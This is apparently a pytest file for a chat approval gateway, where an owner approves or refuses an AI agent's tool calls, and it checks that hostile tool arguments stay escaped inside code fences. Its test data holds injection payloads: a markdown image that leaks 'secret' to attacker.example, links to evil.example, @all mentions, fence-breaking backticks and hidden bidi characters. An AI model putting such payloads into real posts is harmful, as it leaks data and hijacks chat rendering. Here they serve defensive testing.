"""The approval rules: which chat events answer an approval, and the post's text.

Pure functions: each rule has its own test, with the event that breaks only it.
The post text is parsed with markdown-it-py (CommonMark, as Mattermost's
renderer is) to show that hostile arguments stay inside the fenced block.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from boxmaker.core.audit.records import ApprovalAnswer
from boxmaker.core.display.reply_parts import MAX_POST_CHARS
from boxmaker.core.labels import DataClass
from boxmaker.core.wire.broker_admin import PendingApproval, UntrustedBy
from boxmaker.core.wire.gateway import ApprovalOutcome
from boxmaker.gatewayd.approval_rules import (
    APPROVE_EMOJI,
    MAX_SHOWN_ARGUMENTS,
    REFUSE_EMOJI,
    Approve,
    Event,
    Ignore,
    Posted,
    PostedApproval,
    ReactionAdded,
    Refuse,
    fenced,
    judge,
    outcome_text,
    post_text,
    shows_arguments,
)

OWNER = "owner0000000000000000000aa"
STRANGER = "stranger000000000000000bbb"
DM = "dmchannel0000000000000000c"
OTHER_CHANNEL = "townsquare000000000000000d"
POST = "approvalpost00000000000041"
OTHER_POST = "someotherpost0000000000042"
NOW = "2026-11-30T12:05:00.000Z"
EXPIRES = "2026-11-30T12:15:00.000Z"
DIGEST = "3f2a9c01b4de" + "5a" * 26

POSTS = {POST: PostedApproval(post=POST, approval=41, expires=EXPIRES)}


def judged(event: Event, now: str = NOW) -> Approve | Refuse | Ignore:
    return judge(event, POSTS, OWNER, DM, now)


def reaction(emoji: str = "white_check_mark", **changes: str) -> ReactionAdded:
    fields = {"user_id": OWNER, "post_id": POST, "emoji": emoji, "channel_id": DM} | changes
    return ReactionAdded(**fields)


def reply(message: str = "approve 41", **changes: object) -> Posted:
    fields: dict[str, object] = {
        "user_id": OWNER,
        "channel_id": DM,
        "root_id": POST,
        "message": message,
    } | changes
    return Posted(**fields)  # type: ignore[arg-type]


# --- what counts ------------------------------------------------------------------


@pytest.mark.parametrize("emoji", sorted(APPROVE_EMOJI))
def test_an_approve_emoji_approves(emoji: str) -> None:
    assert judged(reaction(emoji)) == Approve(41, POST)


@pytest.mark.parametrize("emoji", sorted(REFUSE_EMOJI))
def test_a_refuse_emoji_refuses(emoji: str) -> None:
    assert judged(reaction(emoji)) == Refuse(41, POST, None)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("approve 41", Approve(41, POST)),
        ("APPROVE 41", Approve(41, POST)),
        ("  Approve 41 \n", Approve(41, POST)),
        ("refuse 41", Refuse(41, POST, None)),
        ("Refuse 41 not on a friday", Refuse(41, POST, "not on a friday")),
        ("refuse 41   spaces around  ", Refuse(41, POST, "spaces around")),
    ],
    ids=["approve", "upper", "whitespace", "refuse", "reason", "reason-trimmed"],
)
def test_the_accepted_replies(text: str, expected: Approve | Refuse) -> None:
    assert judged(reply(text)) == expected


# --- what does not: one test per rule ----------------------------------------------


def test_another_user_never_counts() -> None:
    assert judged(reaction(user_id=STRANGER)) == Ignore("not the owner")
    assert judged(reply(user_id=STRANGER)) == Ignore("not the owner")


def test_another_channel_never_counts() -> None:
    assert judged(reaction(channel_id=OTHER_CHANNEL)) == Ignore("not the owner's direct channel")
    assert judged(reply(channel_id=OTHER_CHANNEL)) == Ignore("not the owner's direct channel")


def test_an_edited_reply_never_counts() -> None:
    assert judged(reply(is_edit=True)) == Ignore("an edited message never counts")


def test_a_reply_to_a_post_that_is_no_approval_does_not_count() -> None:
    assert judged(reply(root_id=OTHER_POST)) == Ignore("not a pending approval post")
    assert judged(reply(root_id="")) == Ignore("not a pending approval post")
    assert judged(reaction(post_id=OTHER_POST)) == Ignore("not a pending approval post")


def test_only_the_first_answer_counts() -> None:
    # the caller takes the post out of its table on the first answer that counts
    posts = dict(POSTS)
    first = judge(reaction("+1"), posts, OWNER, DM, NOW)
    assert first == Approve(41, POST)
    del posts[first.post]
    assert judge(reply("refuse 41"), posts, OWNER, DM, NOW) == Ignore("not a pending approval post")
    assert judge(reaction("x"), posts, OWNER, DM, NOW) == Ignore("not a pending approval post")


def test_an_expired_approval_does_not_count() -> None:
    assert judged(reaction(), now=EXPIRES) == Ignore("approval 41 has expired")
    assert judged(reply(), now="2026-11-30T12:15:00.001Z") == Ignore("approval 41 has expired")
    assert judged(reply(), now="2026-11-30T12:14:59.999Z") == Approve(41, POST)


def test_a_webhook_post_never_counts() -> None:
    assert judged(reply(from_webhook=True)) == Ignore("a webhook post never counts")


def test_a_system_post_never_counts() -> None:
    assert judged(reply(type="system_add_to_channel")) == Ignore(
        "a system post (system_add_to_channel) never counts"
    )


@pytest.mark.parametrize(
    "text", ["approve 42", "refuse 7 no", "approve 041", "approve \uff14\uff11"]
)
def test_a_wrong_id_in_the_reply_does_not_count(text: str) -> None:
    assert isinstance(judged(reply(text)), Ignore)


@pytest.mark.parametrize("emoji", ["heart", "thumbsup_tone2", "white_check", "X", ""])
def test_a_disallowed_emoji_does_not_count(emoji: str) -> None:
    assert judged(reaction(emoji)) == Ignore(f"the emoji {emoji!r} neither approves nor refuses")


@pytest.mark.parametrize(
    "text",
    [
        "ok",
        "approve",
        "yes approve 41",
        "approve 41 please",
        "approve  41",
        "approve 41\nrefuse 41",
        "refuse 41 line one\nline two",
        "refuse 41 " + "x" * 1001,
        "approve\t41",
    ],
    ids=[
        "other-text",
        "no-id",
        "prefix",
        "approve-with-words",
        "two-spaces",
        "two-lines",
        "reason-two-lines",
        "reason-too-long",
        "tab",
    ],
)
def test_other_replies_do_not_count(text: str) -> None:
    assert isinstance(judged(reply(text)), Ignore)


# --- the post -------------------------------------------------------------------------


def item(arguments: str, tool: str = "shell") -> PendingApproval:
    return PendingApproval(
        approval=41,
        session="chat-1",
        call="c7",
        tool=tool,
        arguments=arguments,
        grant="scratch-shell",
        taint=DataClass.PRIVATE,
        created="2026-11-30T12:00:00.000Z",
        expires=EXPIRES,
        digest=DIGEST,
    )


HOSTILE = [
    '{"command":"echo ``` done"}',
    '{"command":"echo ````` ``````` `"}',
    '{"command":"@all @channel @here look"}',
    '{"command":"![x](https://attacker.example/leak?d=secret)"}',
    '{"command":"[click](https://attacker.example) <https://attacker.example>"}',
    '{"command":"```\\n# heading\\n```"}',
    '{"command":"`"}',
    '{"command":"\u202eevil\u200b"}',
]


def render(text: str) -> list[Token]:
    return MarkdownIt("commonmark").parse(text)


def fences(tokens: list[Token]) -> list[Token]:
    return [t for t in tokens if t.type == "fence"]


def inline_text(tokens: list[Token]) -> str:
    """Everything Markdown reads as prose (outside code blocks)."""
    return " ".join(t.content for t in tokens if t.type == "inline")


@pytest.mark.parametrize("arguments", HOSTILE)
def test_hostile_arguments_stay_inside_the_fence(arguments: str) -> None:
    text = post_text(item(arguments))
    tokens = render(text)
    (block,) = fences(tokens)
    assert f"arguments  {arguments}" in block.content or "\\u" in block.content
    prose = inline_text(tokens)
    assert "attacker" not in prose
    assert "@all" not in prose
    assert "heading" not in prose
    assert not [t for t in tokens if t.type in ("heading_open",) and "heading" in t.content]
    for child in (c for t in tokens if t.children for c in t.children):
        assert child.type not in ("image", "link_open"), child


def test_hidden_characters_are_shown_escaped() -> None:
    (block,) = fences(render(post_text(item('{"command":"\u202eevil\u200b"}'))))
    assert "\\u202eevil\\u200b" in block.content
    assert "\u202e" not in block.content


def test_the_post_names_every_field_and_how_to_answer() -> None:
    text = post_text(item('{"command":"make"}'))
    (block,) = fences(render(text))
    for part in ("41", "shell", "chat-1", "scratch-shell", "private", EXPIRES, "make"):
        assert part in block.content
    assert "digest     3f2a9c01b4de\n" in block.content  # the short form, as bxctl shows it
    assert "untrusted" not in block.content
    assert "`approve 41`" in text
    assert "`refuse 41 <reason>`" in text
    assert ":white_check_mark:" in text
    assert ":x:" in text


def test_the_post_names_the_call_that_made_the_session_untrusted() -> None:
    by = UntrustedBy(session="chat-1", call="c3", tool="http_fetch")
    untrusted = item('{"command":"make"}').model_copy(update={"untrusted_by": by})
    (block,) = fences(render(post_text(untrusted)))
    assert "untrusted  since call c3 (http_fetch) of session chat-1\n" in block.content


def test_the_post_names_the_flag_rule_the_result_matched() -> None:
    by = UntrustedBy(session="chat-1", call="c3", tool="read_file", rule="ignore-instructions")
    untrusted = item('{"command":"make"}').model_copy(update={"untrusted_by": by})
    settled = ApprovalOutcome(approval=41, answer=ApprovalAnswer.REFUSED, outcome="refused")
    for text in (post_text(untrusted), outcome_text(untrusted, settled)):
        block = fences(render(text))[0]
        assert (
            "untrusted  since call c3 (read_file) of session chat-1:"
            " its result matched the flag rule ignore-instructions\n"
        ) in block.content


def test_a_hostile_flag_rule_stays_escaped_in_the_block() -> None:
    rule = "x\u202e```\n# heading ![i](https://evil.example/i.png)"
    by = UntrustedBy(session="chat-1", call="c3", tool="read_file", rule=rule)
    tokens = render(post_text(item("{}").model_copy(update={"untrusted_by": by})))
    (block,) = fences(tokens)
    shown = "the flag rule x\\u202e```\\u000a# heading ![i](https://evil.example/i.png)\n"
    assert shown in block.content
    assert "\u202e" not in block.content
    assert "evil.example" not in inline_text(tokens)
    for child in (c for t in tokens if t.children for c in t.children):
        assert child.type not in ("image", "link_open"), child


def test_a_fence_is_longer_than_any_backtick_run() -> None:
    for inner in ["", "`", "```", "a ```` b", "``````````"]:
        block = fenced(inner)
        fence = block.splitlines()[0].removesuffix("text")
        longest = max((len(r) for r in re.findall(r"`+", inner)), default=0)
        assert len(fence) > longest
        assert len(fence) >= 3
        (token,) = fences(render(block))
        assert token.content == inner + "\n"


def test_long_arguments_are_cut_and_the_post_says_so() -> None:
    text = post_text(item('{"command":"' + "a" * 20_000 + '"}'))
    assert len(text) < 16_383
    assert "bxctl approvals" in text
    (block,) = fences(render(text))
    assert block.content.count("a") >= MAX_SHOWN_ARGUMENTS - 20


def test_the_outcome_text_says_who_and_what() -> None:
    pending = item('{"command":"make"}')
    by_bxctl = ApprovalOutcome(
        approval=41, answer=ApprovalAnswer.APPROVED, by="bxctl", outcome="runs"
    )
    text = outcome_text(pending, by_bxctl)
    assert "approved with bxctl" in text
    assert "runs" in text
    assert "`approve 41`" not in text
    in_chat = ApprovalOutcome(
        approval=41, answer=ApprovalAnswer.REFUSED, by=OWNER, outcome="denied (approval_refused)"
    )
    assert "refused in chat" in outcome_text(pending, in_chat)
    expired = ApprovalOutcome(
        approval=41, answer=ApprovalAnswer.EXPIRED, outcome="denied (approval_expired)"
    )
    text = outcome_text(pending, expired)
    assert "expired" in text
    assert len(fences(render(text))) == 2


def test_a_hostile_tool_name_stays_on_its_line_inside_the_fence() -> None:
    tool = "shell\n````\n# owned\n![x](https://attacker.example/x)\n@all"
    tokens = render(post_text(item('{"command":"make"}', tool=tool)))
    (block,) = fences(tokens)
    assert "tool       shell\\u000a````\\u000a# owned" in block.content
    assert "attacker" not in inline_text(tokens)
    assert "@all" not in inline_text(tokens)


def test_arguments_that_cannot_be_posted_give_a_notice_that_names_bxctl() -> None:
    # about 12,000 backticks: fenced, the block alone would pass Mattermost's limit
    waiting = item('{"command":"' + "`" * 12_000 + '"}')
    text = post_text(waiting)
    assert len(text) <= MAX_POST_CHARS
    assert "cannot be shown in a post" in text
    assert "`bxctl approve 41`" in text
    assert "``````" not in text  # none of the arguments
    assert not shows_arguments(waiting)
    settled = ApprovalOutcome(approval=41, answer=ApprovalAnswer.REFUSED, outcome="refused")
    assert len(outcome_text(waiting, settled)) <= MAX_POST_CHARS
    assert shows_arguments(item('{"command":"ls"}'))


def test_on_a_post_without_the_arguments_only_a_refusal_counts() -> None:
    posts = {POST: PostedApproval(post=POST, approval=41, expires=EXPIRES, shown=False)}
    assert isinstance(judge(reaction(), posts, OWNER, DM, NOW), Ignore)
    assert isinstance(judge(reply("approve 41"), posts, OWNER, DM, NOW), Ignore)
    assert judge(reaction("x"), posts, OWNER, DM, NOW) == Refuse(41, POST, None)
    assert judge(reply("refuse 41"), posts, OWNER, DM, NOW) == Refuse(41, POST, None)
